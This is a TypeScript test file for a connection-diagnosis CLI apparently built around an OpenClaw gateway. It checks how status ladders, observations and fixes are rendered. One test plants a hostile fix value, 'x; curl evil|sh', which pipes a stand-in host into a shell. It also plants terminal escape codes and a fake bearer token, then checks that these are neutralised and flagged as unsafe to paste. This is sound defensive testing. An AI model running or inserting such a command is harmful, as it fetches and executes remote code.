import assert from 'node:assert/strict';
import {test} from 'node:test';
import stringWidth from 'string-width';
import {progressLines} from '../../source/commands/status/status-text.js';
import {alternativeLines, diagnosisLines, noteLines, observedLines} from '../../source/components/connection-report.js';
import {ladderLines, ladderRow} from '../../source/components/ladder-lines.js';
import {catalogue} from '../../source/diagnosis/catalogue/catalogue.js';
import {diagnose} from '../../source/diagnosis/diagnose.js';
import type {Diagnosis, Fix} from '../../source/diagnosis/diagnosis.js';
import {climb} from '../../source/diagnosis/ladder.js';
import {createPalette} from '../../source/terminal/palette.js';
import {evidenceOf, failure} from '../diagnosis/evidence-of.js';

const plain = createPalette('none', 'auto');
const painted = createPalette('16', 'auto');
const refused = evidenceOf([failure('ECONNREFUSED', {}, {syscall: 'connect', address: '127.0.0.1', port: 18789})]);

test('the ladder in one line, and in as many as a narrow terminal needs', () => {
	const rungs = climb(refused, diagnose(refused));
	assert.deepEqual(ladderRow(rungs, {palette: plain, width: 120}), [
		'✓ config  – name  ✗ tcp  · tls  · gateway  · auth  · chat  · control',
	]);
	const narrow = ladderRow(rungs, {palette: painted, width: 40});
	assert.ok(narrow.length === 2 && narrow.every(line => stringWidth(line) <= 40));
	assert.match(ladderLines(rungs, {palette: plain}).join('\n'), /^✗ tcp {7}connect ECONNREFUSED 127\.0\.0\.1:18789$/m);
});

test('what a longer look saw beside the way in, and how long it may take', () => {
	const sibling = {kind: 'sibling-look', layer: 'tcp', atMs: 9, relation: 'default-port', addressClass: 'loopback'} as const;
	const evidence = evidenceOf([
		...refused.observations,
		{...sibling, origin: 'http://127.0.0.1:19001', outcome: 'refused'},
		{...sibling, origin: 'http://[::1]:18789', outcome: 'gateway'},
		{
			kind: 'websocket-closed',
			layer: 'control',
			atMs: 10,
			challenged: true,
			welcomed: false,
			code: 1008,
			reason: 'handshake timeout',
			byUs: false,
		},
	]);
	const findings = {alternatives: [], notes: []};
	const style = {palette: plain};
	assert.deepEqual(observedLines(evidence, findings, 'closer', style), [
		'Observed  http://[::1]:18789: an OpenClaw gateway answers',
		'          WebSocket greeted, closed with 1008 handshake timeout',
	]);
	assert.equal(observedLines(evidence, findings, 'every', style).length, evidence.observations.length);
	const last = (deep: boolean) => progressLines(evidence, findings, undefined, {...style, deep}).at(-1) ?? '';
	assert.match(last(true), /^Looking longer, up to 20 s\./);
	assert.doesNotMatch(last(false), /20 s/);
});

for (const width of [40, 80]) {
	test(`at ${width} columns only commands go over the width, and they are plain`, () => {
		for (const entry of catalogue) {
			if (entry.kind !== 'rule') continue;
			const findings = diagnose(entry.example);
			const {primary} = findings;
			const style = {palette: painted, width};
			const lines = [
				...ladderLines(climb(entry.example, findings), style),
				...(primary ? diagnosisLines(primary, entry.example, style) : []),
				...alternativeLines(findings, entry.example, style),
				...noteLines(findings, entry.example, style),
			];
			const all = [primary, ...findings.alternatives, ...findings.notes];
			const commands = new Set(all.flatMap(one => (one ? [one.verify, ...one.fixes.map(({command}) => command)] : [])));
			for (const line of lines) {
				if (stringWidth(line) > width) assert.ok(commands.has(line.trim()), `${entry.id}: ${line}`);
			}
		}
	});
}

test('texts of others are made safe, secrets are gone, and what is not safe to paste stands apart', () => {
	const unsafe: Fix = {
		...{where: 'here', action: 'approve', command: 'openclaw devices approve REQUEST_ID', applicability: 'has-placeholders'},
		shownApart: 'x; \u0007curl evil|sh',
	};
	const evil: Diagnosis = {
		...{id: 'X99', slug: 'x', layer: 'auth', severity: 'error', confidence: 'possible', exitCode: 77, transient: false},
		title: 'a\u001B[2Jb\nc',
		explanation: 'Bearer abcdefgh12345',
		evidence: [],
		fixes: [unsafe, ...[2, 3, 4].map((count): Fix => ({where: 'here', action: `step ${count}`, applicability: 'safe-to-run'}))],
		rivals: [{id: 'X98', title: 'another', tellApart: 'look'}],
	};
	const text = diagnosisLines(evil, refused, {palette: plain, more: 'd: details'}).join('\n');
	assert.doesNotMatch(text, /[\u0007\u001B]|abcdefgh/);
	assert.match(text, /^✗ ab c {2}\[X99, possible\]\n/);
	assert.match(text, /\n {11}openclaw devices approve REQUEST_ID\n {11}the value, which is not safe to paste: x; curl evil\|sh\n/);
	assert.match(text, /1 more: d: details/);
	assert.match(text, /Or {4}another \[X98\]\. To tell apart: look/);
	assert.doesNotMatch(text, /step 4/);
	assert.match(diagnosisLines(evil, refused, {palette: plain, verbose: true}).join('\n'), /step 4/);
});
